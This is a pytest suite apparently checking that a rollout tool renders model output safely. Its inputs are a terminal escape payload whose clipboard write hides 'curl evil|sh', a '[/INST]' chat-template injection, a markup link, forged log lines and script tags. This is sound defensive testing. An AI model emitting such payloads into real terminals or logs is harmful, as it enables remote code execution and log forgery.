"""The attacker's wish: an answer of the model that a terminal, a table, a log or a plot obeys."""

import json
import logging

import pytest

from rollout.cli import main, output
from rollout.common.logs import configure_logging
from rollout.errors import SpecError
from rollout.report.plots import Plot, Series, render_svg
from rollout_api.visible import visible

ATTACK = "\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\\x1b[2J\x9b2J\x1b]0;pwn\x07\u202egnp.exe\u2028\x7f\r"


def is_plain(text):
    return all(one in "\t\n" or one.isprintable() for one in text)


@pytest.mark.parametrize("text", [ATTACK, "[/INST]", "[link=https://evil]answer[/link]", "[bold]x"])
def test_a_table_cell_is_obeyed(capsys, monkeypatch, text):
    monkeypatch.setenv("COLUMNS", "300")
    output.print_table(["task", text], [["1", text]])
    shown = capsys.readouterr().out
    assert is_plain(shown)
    assert shown.count(visible(text)) == 2, "as text, and whole"


@pytest.mark.parametrize("show", [output.print_line, output.print_note])
def test_a_line_is_obeyed(capsys, show):
    show(ATTACK)
    shown = "".join(capsys.readouterr())
    assert is_plain(shown)
    assert "\\x1b]52;c;" in shown
    assert "\\u202e" in shown


def test_an_error_is_obeyed(capsys, monkeypatch):
    def fail():
        raise SpecError(f"reward raised {ATTACK}")

    monkeypatch.setattr(main, "app", fail)
    with pytest.raises(SystemExit):
        main.main()
    assert is_plain(capsys.readouterr().err)


def test_json_for_programs_stays_json_and_exact(capsys):
    output.print_json({"text": ATTACK, "reward": float("nan")})
    shown = capsys.readouterr().out
    assert json.loads(shown) == {"text": ATTACK, "reward": None}
    assert is_plain(shown)


@pytest.mark.parametrize("kind", ["text", "json"])
def test_a_log_line_is_forged(capsys, kind):
    before = logging.getLogger().handlers[:]
    try:
        configure_logging({"ROLLOUT_LOG_FORMAT": kind})
        forged = "2026-01-01 00:00:00,000 INFO rollout.coordinator run succeeded"
        logging.getLogger("t").warning("message=%s", f"{ATTACK}\n{forged}")
        shown = capsys.readouterr().err
    finally:
        logging.getLogger().handlers[:] = before
    assert is_plain(shown)
    assert not any(line.startswith("2026-01-01 00:00:00,000") for line in shown.splitlines())


@pytest.mark.parametrize("name", [r"$\frac{$", "$x$", "a$b", "<script>x</script>", "\x1b[2J"])
def test_a_name_breaks_a_plot(name):
    line = Series(label=name, xs=[1, 2], ys=[1, 2])
    other = Series(label="b", xs=[1], ys=[2])
    svg = render_svg(Plot(title=name, unit=name, x_label=name, series=[line, other]))
    assert svg.startswith("<svg")
    assert "<script" not in svg


def test_what_is_harmless_stays_as_it_is():
    text = "ümlaut 漢字 \U0001f600 tab\tand\nnewline \\x1b"
    assert visible(text) == text
